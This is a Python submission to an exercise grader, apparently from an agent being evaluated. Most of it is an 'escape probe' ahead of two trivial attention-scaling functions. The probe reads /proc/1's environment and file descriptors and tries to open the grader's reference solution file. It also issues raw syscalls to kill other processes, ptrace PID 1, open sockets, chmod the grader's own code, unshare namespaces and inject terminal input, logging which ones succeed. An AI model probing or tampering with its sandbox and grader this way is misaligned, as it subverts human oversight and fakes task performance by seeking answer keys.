# a03: escape probe - /proc of the zygote (root, cwd, environ, fds), the kit's paths from our own stack,
# raw syscalls (fork, kill others, ptrace, socket, chmod, link, rename, memfd, shared mmap, pipe,
# setaffinity, setrlimit up, unshare, dumpable), then honest answers.
import warnings; warnings.simplefilter('ignore')
import ctypes, os, sys, math, errno, torch
L = ctypes.CDLL(None, use_errno=True)
R = []
def sc(name, nr, *a):
    r = L.syscall(nr, *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    R.append(f"{name}={'ok' if r >= 0 else errno.errorcode.get(ctypes.get_errno())}")
    return r
def tryit(name, f):
    try:
        v = f(); R.append(f"{name}=OK:{str(v)[:80]}")
    except BaseException as e:
        R.append(f"{name}={type(e).__name__}:{str(e)[:60]}")
R.append(f"uid={os.getuid()} pid={os.getpid()} ppid={os.getppid()}")
tryit("proc", lambda: sorted(p for p in os.listdir('/proc') if p.isdigit()))
tryit("p1cmd", lambda: open('/proc/1/cmdline','rb').read()[:120])
tryit("p1root", lambda: os.listdir('/proc/1/root/'))
tryit("p1cwd", lambda: os.listdir('/proc/1/cwd/'))
tryit("p1env", lambda: open('/proc/1/environ','rb').read()[:50])
tryit("p1fd", lambda: os.listdir('/proc/1/fd'))
kit = os.path.dirname(os.path.dirname(os.path.dirname(sys.modules['grader.sandbox.child'].__file__))) if 'grader.sandbox.child' in sys.modules else os.path.dirname(os.path.dirname(os.path.dirname(sys._getframe(1).f_code.co_filename)))
R.append(f"kit={kit}")
tryit("kitls", lambda: os.listdir(kit))
tryit("sol", lambda: open(kit + '/solutions/exercise3_scaling.py').read(50))
tryit("lref", lambda: os.listdir(kit + '/lumen_ref'))
tryit("tmp", lambda: os.listdir('/tmp'))
tryit("work", lambda: os.listdir('/work'))
tryit("cwd", lambda: (os.getcwd(), os.listdir('.')))
tryit("devshm", lambda: os.listdir('/dev/shm'))
sc("fork", 57); sc("vfork_skip", 39)  # 39 = getpid (control)
sc("kill1", 62, 1, 0); sc("killm1", 62, -1, 0); sc("kill0", 62, 0, 0)
sc("ptrace1", 101, 16, 1, 0, 0)
sc("sock_inet", 41, 2, 1, 0); sc("sock_unix", 41, 1, 1, 0)
sc("chmod_sub", 90, os.fsencode(__file__), 0o777)
sc("chmod_kit", 90, os.fsencode(kit + "/grader/__init__.py"), 0)
sc("utimensat", 280, -100, os.fsencode(__file__), 0, 0)
sc("link", 86, os.fsencode(__file__), b"x")
sc("rename", 82, b"a", b"b")
sc("memfd", 319, b"m", 0)
sc("mmap_shared", 9, 0, 4096, 3, 0x21, -1, 0)
sc("pipe2", 293, ctypes.byref((ctypes.c_int*2)()), 0)
sc("setaff", 203, 0, 8, ctypes.byref(ctypes.c_ulong(3)))
sc("setrlimit_up", 160, 7, ctypes.byref((ctypes.c_ulong*2)(4096, 4096)))
sc("unshare_user", 272, 0x10000000)
sc("prctl_dump", 157, 4, 1, 0, 0, 0)
sc("io_uring", 425, 8, ctypes.byref((ctypes.c_char*120)()))
sc("clone_proc", 56, 17, 0, 0, 0, 0)  # SIGCHLD only = fork
sc("clone_parent_thread", 56, 0x10000|0x800|0x100|0x8000, 0, 0, 0, 0) if False else None
sc("inotify", 294, 0); sc("eventfd", 290, 0, 0); sc("timerfd", 283, 1, 0); sc("signalfd", 289, -1, ctypes.byref(ctypes.c_ulong(0)), 8, 0)
sc("sysv_shmget", 29, 0, 1 << 20, 0o1600)
sc("mknod_fifo", 133, b"fifo", 0o10600, 0)
sc("symlink", 88, b"/", b"lnk")
sc("fcntl_setown", 72, 1, 8, 1)
sc("fcntl_pipesz", 72, 1, 1031, 1 << 20)
sc("sched_setattr", 314, 0, ctypes.byref((ctypes.c_uint32*14)(56)), 0)
sc("setpriority", 141, 0, 0, -5)
sc("ioctl_tiocsti", 16, 0, 0x5412, ctypes.byref(ctypes.c_char(b'x')))
sc("x32_getpid", 0x40000000 + 39)
sc("i386_int80_skip", 39)
print("A03", " ".join(R))

def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
